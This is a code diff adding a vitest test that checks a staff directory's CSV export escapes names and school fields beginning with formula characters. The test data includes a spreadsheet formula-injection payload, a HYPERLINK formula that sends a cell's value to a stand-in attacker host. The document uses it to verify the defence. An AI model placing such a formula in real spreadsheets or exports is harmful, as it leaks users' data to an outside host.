@@ -1,5 +1,6 @@
 // The staff directory's filters on a real database, and the CSV export honouring them.
 import { eq } from "drizzle-orm";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { applications } from "../../db/schema/index";
 import { testEngines } from "../../tests/helpers/test-db";
@@ -70,5 +71,20 @@ describe.each(testEngines())("directory filters on $name", (engine) => {
     const lines = csv.trim().split("\n");
     expect(lines).toHaveLength(2);
     expect(lines[1]).toContain("d@example.org");
+  });
+
+  it("exports names and schools that start like a formula as inert text that imports back unchanged", async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?d="&B2,"Open")';
+    await upsertApplications(handle.db, [input({ name: hyperlink, email: "formula@example.org", school: "@SUM(A1:A3) University" })], now);
+    let csv = "";
+    for await (const chunk of exportDirectoryCsv(handle.db, {})) csv += chunk;
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Open"")"`);
+    const record = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.email === "formula@example.org")!;
+    expect(record.name).toBe(`'${hyperlink}`);
+    expect(record.school).toBe("'@SUM(A1:A3) University");
+    // No cell of the whole file starts with a formula character.
+    for (const cells of parse(csv) as string[][]) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const again = checkImportRow(record, now);
+    expect(again).toMatchObject({ ok: true, input: { name: hyperlink, schoolName: "@SUM(A1:A3) University" } });
   });
 });
